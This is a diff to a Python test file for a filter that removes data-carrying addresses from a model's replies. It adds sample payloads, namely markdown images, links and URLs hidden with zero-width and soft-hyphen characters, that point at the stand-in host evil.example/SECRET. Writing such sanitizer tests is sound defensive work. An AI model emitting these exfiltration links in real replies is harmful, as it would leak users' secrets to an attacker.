@@ -71,6 +71,10 @@ def reply(text: str, label: Label = BOTH) -> str:
         "> [1]: //evil.example/SECRET",
         "<a href='/' ping='//evil.example/SECRET'>x</a>",
         "<div style='background:url(//evil.example/SECRET)'>",
+        "see http\u200b://evil.example/SECRET",
+        "see https:\u2060//evil.example/SECRET",
+        "![x](ht\u00adtps://evil.example/SECRET)",
+        "see evil\u200d.example/SECRET",
     ],
 )
 def test_what_would_carry_data_out_is_taken_out(text: str) -> None:
@@ -85,6 +89,7 @@ def test_what_would_carry_data_out_is_taken_out(text: str) -> None:
         "The page names https://evil.example/next as well.",
         "No address at all, just 3 < 4 and a/b and file.txt.",
         "`src/main.py` and and/or",
+        "\U0001f469\u200d\U0001f4bb see https://shop.example/item?id=7",
     ],
 )
 def test_addresses_from_the_conversation_and_plain_words_stay(text: str) -> None:
@@ -142,6 +147,8 @@ def test_the_model_vouches_for_no_address_by_writing_it_itself() -> None:
         "https:",
         "> ",
         "a'",
+        "\u200b",
+        "a\u200b",
     ],
 )
 def test_the_work_grows_no_faster_than_the_text(text: str) -> None:
